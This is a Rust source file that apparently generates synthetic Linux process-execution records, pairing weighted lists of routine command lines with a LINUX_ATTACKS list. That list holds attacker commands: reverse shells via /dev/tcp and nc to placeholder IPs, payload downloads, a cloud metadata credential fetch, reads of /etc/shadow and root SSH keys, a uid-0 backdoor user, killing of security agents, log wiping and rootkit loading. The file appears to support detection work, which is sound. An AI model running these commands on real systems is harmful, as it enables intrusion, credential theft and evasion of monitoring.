//! Programs of Linux hosts.

use super::{ANYONE, Line, Program, program};

const SYSTEMD: (&str, &str) = (
    "/usr/lib/systemd/systemd",
    "/usr/lib/systemd/systemd --switched-root --system",
);
const BASH: (&str, &str) = ("/usr/bin/bash", "-bash");
const CRON: (&str, &str) = ("/usr/sbin/cron", "/usr/sbin/CRON -f");
const KUBELET: (&str, &str) = (
    "/usr/bin/containerd-shim-runc-v2",
    "/usr/bin/containerd-shim-runc-v2 -namespace k8s.io -id <hex 64 pod> -address /run/containerd/containerd.sock",
);
const RUNNER: (&str, &str) = ("/usr/bin/dash", "sh -e /builds/run-<hex 8 run>.sh");
const NGINX: (&str, &str) = ("/usr/sbin/php-fpm8.3", "php-fpm: pool www");
const ROOT: Option<usize> = Some(0);
const WEB: Option<usize> = Some(1);

const fn unix(
    weight: u32,
    path: Line,
    lines: &'static [Line],
    parent: (Line, Line),
    user: Option<usize>,
) -> Program {
    program(weight, path, [""; 4], lines, parent, user)
}

/// What Linux hosts start all day.
pub(in crate::generate::records) const LINUX_PROGRAMS: &[Program] = &[
    unix(
        80,
        "/usr/bin/ls",
        &["ls -la", "ls --color=auto /var/log", "ls -1 /srv/app/releases"],
        BASH,
        ANYONE,
    ),
    unix(
        70,
        "/usr/bin/grep",
        &[
            "grep -rn timeout /etc/app",
            "grep -c ERROR /var/log/app/app-<below 90 log>.log",
            "grep -q ready",
        ],
        RUNNER,
        ANYONE,
    ),
    unix(
        10,
        "/usr/bin/runc",
        &[
            "runc --root /run/containerd/runc/k8s.io --log /run/containerd/io.containerd.runtime.v2.task/k8s.io/<hex 64 pod>/log.json --log-format json exec --process /tmp/runc-process<below 999999999 proc> --detach --pid-file /run/containerd/<hex 64 exec>.pid <hex 64 pod>",
        ],
        KUBELET,
        ROOT,
    ),
    unix(
        50,
        "/usr/bin/cat",
        &[
            "cat /proc/loadavg",
            "cat /sys/fs/cgroup/memory.max",
            "cat /srv/app/VERSION",
        ],
        RUNNER,
        ANYONE,
    ),
    unix(
        50,
        "/usr/bin/sed",
        &[
            "sed -n 1,<below 400 lines>p /srv/app/config/app.yaml",
            "sed -e s/dev/prod/",
        ],
        RUNNER,
        ANYONE,
    ),
    unix(
        45,
        "/usr/bin/git",
        &[
            "git fetch --prune origin",
            "git status --porcelain",
            "git rev-parse HEAD",
            "git checkout -q <hex 40 commit>",
        ],
        RUNNER,
        ANYONE,
    ),
    unix(
        40,
        "/usr/bin/python3.12",
        &[
            "python3 manage.py check",
            "python3 -m pytest -q tests/unit/test_<below 500 test>.py",
            "/usr/bin/python3 /usr/share/unattended-upgrades/unattended-upgrade-shutdown --wait-for-signal",
        ],
        RUNNER,
        ANYONE,
    ),
    unix(
        35,
        "/usr/bin/date",
        &["date +%s", "date -u +%Y-%m-%dT%H:%M:%SZ"],
        RUNNER,
        ANYONE,
    ),
    unix(
        35,
        "/usr/bin/pg_isready",
        &["pg_isready -U postgres -h 127.0.0.1 -p 5432"],
        KUBELET,
        Some(2),
    ),
    unix(
        30,
        "/usr/bin/gcc-13",
        &["gcc -c -O2 -Wall -o build/obj-<below 5000 obj>.o src/file-<below 5000 obj>.c"],
        ("/usr/bin/make", "make -j8 all"),
        ANYONE,
    ),
    unix(
        30,
        "/usr/lib/gcc/x86_64-linux-gnu/13/cc1",
        &[
            "/usr/lib/gcc/x86_64-linux-gnu/13/cc1 -quiet -imultiarch x86_64-linux-gnu src/file-<below 5000 obj>.c -quiet -dumpbase file-<below 5000 obj>.c -mtune=generic -march=x86-64 -O2 -Wall -o /tmp/cc<hex 6 tmp>.s",
        ],
        ("/usr/bin/x86_64-linux-gnu-gcc-13", "gcc -c -O2 -Wall"),
        ANYONE,
    ),
    unix(
        25,
        "/usr/bin/awk",
        &["awk {print $2}", "awk -F: {print $1} /srv/app/hosts.txt"],
        RUNNER,
        ANYONE,
    ),
    unix(25, "/usr/bin/sleep", &["sleep 5", "sleep 60"], RUNNER, ANYONE),
    unix(
        25,
        "/usr/sbin/ipset",
        &["ipset list -name", "ipset restore -exist"],
        (
            "/usr/local/bin/kube-proxy",
            "/usr/local/bin/kube-proxy --config=/var/lib/kube-proxy/config.conf",
        ),
        ROOT,
    ),
    unix(
        20,
        "/usr/bin/systemctl",
        &[
            "systemctl is-active app.service",
            "systemctl status nginx --no-pager",
        ],
        BASH,
        ANYONE,
    ),
    unix(
        20,
        "/usr/bin/kubectl",
        &[
            "kubectl get pods -n shop -o wide",
            "kubectl rollout status deployment/shop-<below 40 deploy>",
        ],
        BASH,
        ANYONE,
    ),
    unix(
        20,
        "/usr/bin/node",
        &[
            "node /srv/app/server.js --port 80<below 90 port>",
            "node node_modules/.bin/eslint src",
        ],
        SYSTEMD,
        Some(3),
    ),
    unix(
        20,
        "/usr/lib/jvm/java-21/bin/java",
        &[
            "java -Xmx2g -XX:+UseG1GC -Dspring.profiles.active=prod -Dserver.port=8<below 999 port> -jar /srv/billing/billing.jar",
        ],
        SYSTEMD,
        Some(3),
    ),
    unix(
        18,
        "/usr/sbin/logrotate",
        &["/usr/sbin/logrotate /etc/logrotate.conf"],
        SYSTEMD,
        ROOT,
    ),
    unix(
        18,
        "/usr/bin/stat",
        &[
            "stat -c %Y /srv/app/releases/<below 30 days>",
            "stat -f /var/cache/app",
        ],
        CRON,
        ROOT,
    ),
    unix(
        15,
        "/usr/local/bin/helm",
        &[
            "helm list -n shop",
            "helm upgrade --install shop charts/shop --set image.tag=1.<below 90 port>",
        ],
        RUNNER,
        ANYONE,
    ),
    unix(
        15,
        "/usr/bin/ssh",
        &["ssh -o BatchMode=yes deploy@<server> uptime"],
        BASH,
        ANYONE,
    ),
    unix(
        12,
        "/usr/sbin/sshd",
        &["sshd: <user> [priv]", "/usr/sbin/sshd -D -R"],
        (
            "/usr/sbin/sshd",
            "sshd: /usr/sbin/sshd -D [listener] 0 of 10-100 startups",
        ),
        ROOT,
    ),
    unix(
        12,
        "/usr/bin/free",
        &["free -m", "free -h -s <below 60 pid>"],
        BASH,
        ANYONE,
    ),
    unix(
        10,
        "/usr/bin/tar",
        &["tar -czf /srv/backup/app-<below 900 backup>.tar.gz /srv/app/data"],
        CRON,
        ROOT,
    ),
    unix(10, "/usr/bin/vim.basic", &["vim deploy.yaml"], BASH, ANYONE),
    unix(
        8,
        "/usr/local/bin/restic",
        &["restic backup /srv/app/data --tag <server>"],
        CRON,
        Some(3),
    ),
    unix(
        8,
        "/usr/lib/apt/apt.systemd.daily",
        &["/bin/sh /usr/lib/apt/apt.systemd.daily update"],
        SYSTEMD,
        ROOT,
    ),
];

/// What attackers start on Linux.
pub(in crate::generate::records) const LINUX_ATTACKS: &[Program] = &[
    unix(
        3,
        "/usr/bin/bash",
        &[
            "bash -i >& /dev/tcp/203.0.113.<below 250 c2>/443 0>&1",
            r#"bash -c \"echo L2Jpbi9iYXNo<hex 8 load> | base64 -d | bash\""#,
        ],
        NGINX,
        WEB,
    ),
    unix(
        3,
        "/usr/bin/curl",
        &[
            "curl -s http://198.51.100.<below 250 c2>/x.sh -o /tmp/x.sh",
            "curl -s http://169.254.169.254/latest/meta-data/iam/security-credentials/",
        ],
        NGINX,
        WEB,
    ),
    unix(
        2,
        "/usr/bin/wget",
        &["wget -q http://198.51.100.<below 250 c2>/kinsing -O /tmp/k"],
        ("/usr/bin/dash", "sh -c /tmp/x.sh"),
        WEB,
    ),
    unix(
        2,
        "/usr/bin/chmod",
        &["chmod 777 /tmp/k", "chmod +x /dev/shm/.k"],
        ("/usr/bin/dash", "sh -c /tmp/x.sh"),
        WEB,
    ),
    unix(
        2,
        "/usr/bin/cat",
        &["cat /etc/shadow", "cat /root/.ssh/id_rsa"],
        BASH,
        ROOT,
    ),
    unix(
        2,
        "/usr/bin/nc.traditional",
        &["nc -e /bin/sh 203.0.113.<below 250 c2> 4444"],
        NGINX,
        WEB,
    ),
    unix(
        2,
        "/usr/bin/base64",
        &["base64 -d /tmp/p.b64", "base64 --decode"],
        BASH,
        WEB,
    ),
    unix(
        2,
        "/usr/bin/crontab",
        &["crontab -r", "crontab /tmp/.c"],
        BASH,
        ROOT,
    ),
    unix(
        1,
        "/usr/sbin/useradd",
        &["useradd -o -u 0 -g 0 -M -s /bin/bash support"],
        BASH,
        ROOT,
    ),
    unix(
        1,
        "/usr/bin/pkill",
        &["pkill -9 -f falcon-sensor", "pkill auditd"],
        BASH,
        ROOT,
    ),
    unix(
        1,
        "/usr/bin/rm",
        &["rm -rf /var/log/auth.log /root/.bash_history"],
        BASH,
        ROOT,
    ),
    unix(1, "/usr/bin/whoami", &["whoami"], NGINX, WEB),
    unix(1, "/usr/bin/insmod", &["insmod /tmp/.rk.ko"], BASH, ROOT),
];
